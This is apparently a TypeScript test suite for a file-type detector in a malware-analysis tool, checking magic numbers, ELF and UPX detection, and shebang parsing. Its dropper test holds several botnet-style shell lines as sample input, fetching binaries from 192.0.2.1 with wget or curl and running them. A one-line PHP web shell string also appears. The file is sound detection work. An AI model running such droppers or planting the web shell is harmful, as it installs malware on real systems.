// detectFileType: magic numbers for each kind, scripts with and without a shebang, text versus
// data, UPX-packed ELF, and robustness to empty, tiny and random input.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { buildElf } from '../../testing/elf-builder.ts';
import { buildUpxElf } from '../../testing/upx-sample.ts';
import { detectFileType } from './file-type.ts';

const enc = new TextEncoder();
const kind = (bytes: Uint8Array | string): string => detectFileType(typeof bytes === 'string' ? enc.encode(bytes) : bytes).kind;
const withTail = (head: number[], size = 64): Uint8Array => {
  const b = new Uint8Array(Math.max(size, head.length)).fill(0x11);
  b.set(head);
  return b;
};

test('empty and tiny inputs', () => {
  assert.deepEqual(detectFileType(new Uint8Array(0)), { kind: 'empty', description: 'empty', mime: 'application/x-empty', interpreter: null });
  assert.equal(kind(new Uint8Array([0x7f])), 'data');
  assert.equal(kind(new Uint8Array([0x7f, 0x45, 0x4c, 0x46])), 'elf');
  assert.equal(kind(new Uint8Array([0x1f])), 'data');
  assert.equal(kind('a'), 'text');
  assert.equal(kind(new Uint8Array([0])), 'data');
});

test('archives and compressed streams by magic', () => {
  const cases: [number[], string, RegExp][] = [
    [[0x1f, 0x8b, 8, 0], 'gzip', /^gzip compressed data$/],
    [[0x50, 0x4b, 3, 4], 'zip', /^Zip archive data$/],
    [[0x50, 0x4b, 5, 6], 'zip', /Zip/],
    [[0xfd, 0x37, 0x7a, 0x58, 0x5a, 0], 'xz', /XZ/],
    [[0x42, 0x5a, 0x68, 0x39], 'bzip2', /block size = 900k/],
    [[0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4], '7z', /version 0\.4/],
    [[0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00], 'rar', /v5/],
    [[0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00], 'rar', /v4/],
    [[0x28, 0xb5, 0x2f, 0xfd], 'zstd', /Zstandard/],
    [[0x4c, 0x5a, 0x49, 0x50, 1], 'lzip', /version 1/],
    [[0x5d, 0, 0, 0x80, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], 'lzma', /LZMA/],
    [[...enc.encode('070701')], 'cpio', /cpio/],
    [[...enc.encode('!<arch>\ndebian-binary   ')], 'ar', /Debian binary package/],
  ];
  for (const [head, expected, description] of cases) {
    const t = detectFileType(withTail(head));
    assert.equal(t.kind, expected, expected);
    assert.match(t.description, description);
  }
  const named = withTail([0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 3, ...enc.encode('bins\x1b.sh'), 0]);
  assert.equal(detectFileType(named).description, 'gzip compressed data, was "bins\\x1b.sh"');
  const tar = new Uint8Array(1024);
  tar.set(enc.encode('bins.sh'), 0);
  tar.set(enc.encode('ustar\x0000'), 257);
  assert.deepEqual([kind(tar), detectFileType(tar).description], ['tar', 'POSIX tar archive']);
  tar.set(enc.encode('ustar  \0'), 257);
  assert.equal(detectFileType(tar).description, 'GNU tar archive');
});

test('ELF, UPX-packed ELF, PE, Mach-O and Java class', () => {
  const elf = detectFileType(buildElf({ machine: 40, flags: 0x05000000, segments: [{ type: 1 }] }));
  assert.equal(elf.kind, 'elf');
  assert.equal(elf.mime, 'application/x-executable');
  assert.match(elf.description, /^ELF 32-bit LSB executable, ARM, EABI5/);
  assert.equal(detectFileType(buildElf({ machine: 62, bits: 64, type: 3, segments: [{ type: 1 }] })).mime, 'application/x-sharedlib');
  const upx = detectFileType(buildUpxElf());
  assert.equal(upx.kind, 'upx-elf');
  assert.match(upx.description, /UPX compressed \(UPX 3\.94\)$/);
  const altered = detectFileType(buildUpxElf({ magic: 'YTS\x99', version: null }));
  assert.equal(altered.kind, 'upx-elf');
  assert.match(altered.description, /UPX magic altered to "YTS\\x99"/);

  const pe = new Uint8Array(512);
  const v = new DataView(pe.buffer);
  pe.set([0x4d, 0x5a]);
  v.setUint32(0x3c, 0x80, true);
  v.setUint32(0x80, 0x00004550, true);
  v.setUint16(0x84, 0x14c, true);
  v.setUint16(0x80 + 24, 0x10b, true);
  v.setUint16(0x80 + 24 + 68, 2, true);
  assert.deepEqual([kind(pe), detectFileType(pe).description], ['pe', 'PE32 executable (GUI) Intel 80386, for MS Windows']);
  assert.equal(detectFileType(withTail([0x4d, 0x5a])).description, 'MS-DOS executable');

  assert.equal(detectFileType(withTail([0xcf, 0xfa, 0xed, 0xfe, 0x0c, 0, 0, 0x01, 0, 0, 0, 0, 2, 0, 0, 0])).description, 'Mach-O 64-bit arm64 executable');
  assert.equal(detectFileType(withTail([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])).description, 'Mach-O universal binary with 2 architectures');
  const java = detectFileType(withTail([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]));
  assert.deepEqual([java.kind, java.description], ['data', 'compiled Java class data, version 52.0']);
});

test('shebang scripts name their interpreter', () => {
  const cases: [string, string, string][] = [
    ['#!/bin/sh\nwget x\n', 'shell-script', 'sh'],
    ['#!/bin/bash\n', 'shell-script', 'bash'],
    ['#! /bin/ash -e\n', 'shell-script', 'ash'],
    ['#!/bin/busybox sh\n', 'shell-script', 'sh'],
    ['#!/bin/busybox\n', 'shell-script', 'busybox'],
    ['#!/usr/bin/env bash\n', 'shell-script', 'bash'],
    ['#!/usr/bin/perl -w\n', 'script', 'perl'],
    ['#!/usr/bin/env python3\nimport os\n', 'script', 'python3'],
    ['#!/usr/bin/php\n', 'script', 'php'],
    ['#!/usr/bin/lua5.1\n', 'script', 'lua5.1'],
    ['#!/usr/bin/env -S node --x\n', 'script', 'node'],
  ];
  for (const [text, expected, interpreter] of cases) {
    const t = detectFileType(enc.encode(text));
    assert.equal(t.kind, expected, text);
    assert.equal(t.interpreter, interpreter, text);
  }
  assert.equal(detectFileType(enc.encode('#!/usr/bin/python3\n')).mime, 'text/x-python');
  assert.equal(detectFileType(enc.encode('#!/bin/sh\n')).mime, 'text/x-shellscript');
  assert.equal(detectFileType(enc.encode('<?php system($_GET["c"]); ?>')).interpreter, 'php');
  assert.equal(detectFileType(enc.encode('#!/x/\x1b[2Jevil\n')).interpreter, '??2Jevil');
});

test('shell droppers without a shebang are shell scripts; prose and config are not', () => {
  const droppers = [
    'cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.1/bins/mips; chmod 777 mips; ./mips telnet.mips',
    'cd /tmp\nbusybox wget http://192.0.2.1/a.sh\nchmod +x a.sh\nsh a.sh\nrm -rf a.sh\n',
    'wget http://192.0.2.1/x.arm7 -O /tmp/x; /tmp/x',
    '# fetch\nfor a in arm mips mpsl; do\n  curl -O http://192.0.2.1/$a\n  chmod 777 $a\n  ./$a\ndone\n',
    'PATH=/bin:/usr/bin\nnohup /tmp/.x >/dev/null 2>&1 &\n',
  ];
  for (const d of droppers) assert.equal(kind(d), 'shell-script', d);
  const notShell = [
    'Please run wget to download the file and then chmod it.\nThanks for reading this note about files.\n',
    'listen 80;\nserver_name example.org;\nroot /var/www;\n',
    'hello',
  ];
  for (const t of notShell) assert.equal(kind(t), 'text', t);
});

test('HTML, XML, JSON, UTF-8 text and binary data', () => {
  assert.equal(kind('<!DOCTYPE html><html><body>404</body></html>'), 'html');
  assert.equal(kind('\n  <HTML>\n<head><title>x</title></head>'), 'html');
  assert.equal(detectFileType(enc.encode('<?xml version="1.0"?><a/>')).mime, 'text/xml');
  assert.equal(detectFileType(enc.encode('{"ok": true}')).mime, 'application/json');
  assert.equal(kind('Grüße, 你好 — text'), 'text');
  assert.equal(kind(new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8, 9, 10])), 'data');
  assert.equal(kind(new Uint8Array(4096).map((_, i) => 0x80 + (i % 64))), 'data');
});

test('property: any bytes give a FileType without throwing, quickly', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 4096 }), (bytes) => {
      const started = performance.now();
      const t = detectFileType(bytes);
      assert.ok(performance.now() - started < 50);
      assert.equal(typeof t.description, 'string');
      assert.ok(t.description.length > 0);
    }),
    { numRuns: 500 },
  );
  fc.assert(
    fc.property(fc.string({ maxLength: 600 }), (text) => {
      detectFileType(enc.encode(text));
    }),
    { numRuns: 300 },
  );
});
